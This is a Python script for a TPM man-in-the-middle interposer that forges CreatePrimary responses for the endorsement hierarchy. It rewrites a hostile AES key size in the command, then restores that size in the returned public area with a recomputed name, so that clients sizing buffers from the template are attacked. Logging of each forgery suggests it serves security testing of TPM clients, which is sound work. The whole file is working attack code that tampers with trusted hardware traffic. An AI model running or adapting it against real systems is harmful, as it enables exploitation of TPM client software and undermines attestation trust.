#!/usr/bin/python3
"""An interposer that makes a hostile EK template look accepted.

  forge_ek_template.py --listen PORT --upstream HOST:PORT --log FILE

A real TPM refuses CreatePrimary for a template whose AES key size is not
one it implements (1024, 0xfff8 bits), so a client that uses such a template
unchecked only fails cleanly against an honest TPM.  An interposer can do
better: in every endorsement-hierarchy CreatePrimary whose template has such
a size, it puts 128 bits in the command (the TPM then derives the genuine
EK), and puts the hostile size back into outPublic of the answer, with the
name recomputed, so the answer matches the client's template and carries
the genuine EK's public key.  A client that sizes buffers from that template
is then attacked in earnest.  Logs "cmd NAME" for every command and
"tamper forge-template keyBits=N" for every forgery.  Password sessions
only: an HMAC session's cpHash would expose the change.
"""
import argparse
import os
import struct
import sys
import threading

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import interposer as ip  # noqa: E402  (the plumbing and TPM parsing we reuse)

ENDORSEMENT = 0x4000000B
ALG_AES = 0x0006


def sym_keybits_offset(pub, base):
    """Offset of symmetric.keyBits in a TPMT_PUBLIC starting at base, or None."""
    r = ip.Reader(pub, base)
    typ = r.u16()
    r.u16(), r.u32()                            # nameAlg, objectAttributes
    r.tpm2b()                                   # authPolicy
    if typ not in (ip.ALG_RSA, ip.ALG_ECC) or r.u16() != ALG_AES:
        return None
    return r.off


class Forger(ip.Proxy):
    def __init__(self, args):
        self.a = args
        self.lock = threading.Lock()
        self.logf = open(args.log, 'a', buffering=1)

    def log(self, line):
        with self.lock:
            self.logf.write(line + '\n')

    def forge_command(self, cmd):
        """Return (command to send, hostile keyBits or None)."""
        if struct.unpack_from('>I', cmd, 6)[0] != 0x131:
            return cmd, None
        if struct.unpack_from('>I', cmd, 10)[0] != ENDORSEMENT:
            return cmd, None
        r = ip.Reader(cmd, 14)
        auth_size = r.u32()
        r.off += auth_size                      # the authorization area
        r.tpm2b()                               # inSensitive
        start, _ = r.tpm2b()                    # inPublic
        off = sym_keybits_offset(cmd, start)
        if off is None:
            return cmd, None
        bits = struct.unpack_from('>H', cmd, off)[0]
        if bits in (128, 256):
            return cmd, None
        out = bytearray(cmd)
        struct.pack_into('>H', out, off, 128)
        return bytes(out), bits

    def forge_response(self, rsp, bits):
        # CreatePrimary answers with a handle, then (sessions) parameterSize.
        psize = struct.unpack_from('>I', rsp, 14)[0]
        head, params, auth = rsp[:14], rsp[18:18 + psize], rsp[18 + psize:]
        r = ip.Reader(params)
        ps, pe = r.tpm2b()                      # outPublic
        r.tpm2b(); r.tpm2b()                    # creationData, creationHash
        r.u16(); r.u32(); r.tpm2b()             # creationTicket
        ns, _ = r.tpm2b()                       # name
        pub = bytearray(params[ps:pe])
        off = sym_keybits_offset(bytes(pub), 0)
        struct.pack_into('>H', pub, off, bits)
        pub = bytes(pub)
        params = (ip.tpm2b(pub) + params[pe:ns - 2] + ip.tpm2b(ip.tpm_name(pub)) +
                  params[r.off:])
        body = head[10:] + struct.pack('>I', len(params)) + params + auth
        return struct.pack('>HII', ip.ST_SESSIONS, 10 + len(body),
                           struct.unpack_from('>I', head, 6)[0]) + body

    def exchange(self, client, up):
        while True:
            cmd = ip.read_frame(client)
            if cmd is None:
                return
            cc = struct.unpack_from('>I', cmd, 6)[0]
            self.log('cmd %s' % ip.CC.get(cc, '0x%x' % cc))
            cmd, bits = self.forge_command(cmd)
            up.sendall(cmd)
            rsp = ip.read_frame(up)
            if rsp is None:
                return
            if bits is not None and struct.unpack_from('>I', rsp, 6)[0] == 0:
                rsp = self.forge_response(rsp, bits)
                self.log('tamper forge-template keyBits=%d' % bits)
            client.sendall(rsp)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    ap.add_argument('--listen', type=int, required=True)
    ap.add_argument('--upstream', type=ip.hostport, required=True)
    ap.add_argument('--log', required=True)
    a = ap.parse_args()
    a.ctrl_upstream = (a.upstream[0], a.upstream[1] + 1)
    ip.serve(Forger(a), a.listen, a.listen + 1)


if __name__ == '__main__':
    sys.exit(main())
